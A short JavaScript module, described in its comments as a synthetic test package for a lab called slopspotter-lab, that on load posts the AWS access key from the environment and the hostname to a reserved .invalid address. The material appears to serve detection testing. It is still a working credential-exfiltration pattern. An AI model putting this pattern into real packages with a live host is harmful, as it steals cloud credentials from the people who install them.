// SYNTHETIC test package written for slopspotter-lab: a harmless imitation of HTTPS exfiltration.
// It talks only to a reserved .invalid hostname (answered by the sandbox's own sinkhole).
if (typeof fetch === "function") {
  fetch("https://fetch.exfil-tls.invalid/api/v2/keys", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ id: process.env.AWS_ACCESS_KEY_ID || "", host: require("os").hostname() }),
  }).then((r) => r.text()).catch(() => {});
}
module.exports = { ok: true };
